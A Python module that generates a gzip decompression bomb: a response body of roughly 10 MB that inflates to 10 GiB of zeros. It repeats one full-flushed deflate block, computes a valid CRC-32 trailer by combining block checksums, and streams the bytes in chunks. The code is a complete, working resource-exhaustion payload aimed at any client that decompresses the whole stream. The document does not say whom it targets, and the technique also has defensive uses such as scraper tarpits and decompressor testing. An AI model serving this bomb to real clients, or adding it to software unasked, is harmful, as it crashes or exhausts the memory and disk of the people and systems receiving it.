"""A gzip body that is small on the wire and enormous once decompressed, built cheaply.

Deflate restarts from scratch after a ``Z_FULL_FLUSH``, so compressing the same block of zeros
with a fresh compressor and a full flush yields the same bytes every time, and those bytes can
be repeated to make one valid deflate stream. Only one block is ever compressed (16 MiB of
zeros, about 16 KB compressed); the gzip trailer's CRC-32 of the whole output is computed with
zlib's ``crc32_combine`` algorithm (not exposed by Python), so nothing ever holds or hashes the
gigabytes a client would inflate. A client that decompresses everything gets a valid stream.
"""

from __future__ import annotations

import functools
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

GZIP_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # deflate, no name, no mtime, max compression
FINAL_EMPTY_BLOCK = b"\x03\x00"  # a final fixed-Huffman block holding only end-of-block


def _gf2_times(mat: list[int], vec: int) -> int:
    total, i = 0, 0
    while vec:
        if vec & 1:
            total ^= mat[i]
        vec >>= 1
        i += 1
    return total


def _gf2_square(mat: list[int]) -> list[int]:
    return [_gf2_times(mat, mat[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """CRC-32 of A+B from crc(A), crc(B) and len(B) (zlib's algorithm, GF(2) matrices)."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]  # operator for one zero bit
    even = _gf2_square(odd)  # two zero bits
    odd = _gf2_square(even)  # four zero bits
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def crc32_repeated(block_crc: int, block_len: int, count: int) -> int:
    """CRC-32 of ``count`` copies of a block, by doubling (O(log count) combines)."""
    result, result_len = 0, 0  # crc32(b"") == 0
    power_crc, power_len = block_crc, block_len
    while count:
        if count & 1:
            result = crc32_combine(result, power_crc, power_len)
            result_len += power_len
        count >>= 1
        if count:
            power_crc = crc32_combine(power_crc, power_crc, power_len)
            power_len *= 2
    return result


@dataclass(frozen=True)
class GzipBomb:
    """``units`` blocks of ``unit_size`` zero bytes, as one gzip member."""

    unit_size: int = 16 * 1024 * 1024
    units: int = 640  # 10 GiB inflated, about 10 MB on the wire

    @functools.cached_property
    def unit(self) -> bytes:
        comp = zlib.compressobj(9, zlib.DEFLATED, -15)
        return comp.compress(bytes(self.unit_size)) + comp.flush(zlib.Z_FULL_FLUSH)

    @property
    def inflated_size(self) -> int:
        return self.unit_size * self.units

    @property
    def trailer(self) -> bytes:
        crc = crc32_repeated(zlib.crc32(bytes(self.unit_size)), self.unit_size, self.units)
        return FINAL_EMPTY_BLOCK + struct.pack("<II", crc, self.inflated_size & 0xFFFFFFFF)

    @property
    def compressed_size(self) -> int:
        return len(GZIP_HEADER) + len(self.unit) * self.units + len(self.trailer)

    def chunks(self) -> Iterator[bytes]:
        """The compressed bytes, one deflate block at a time."""
        yield GZIP_HEADER
        for _ in range(self.units):
            yield self.unit
        yield self.trailer


@functools.lru_cache(maxsize=4)
def bomb(unit_size: int = 16 * 1024 * 1024, units: int = 640) -> GzipBomb:
    """A shared instance, so the one compressed block is computed once per process."""
    return GzipBomb(unit_size, units)
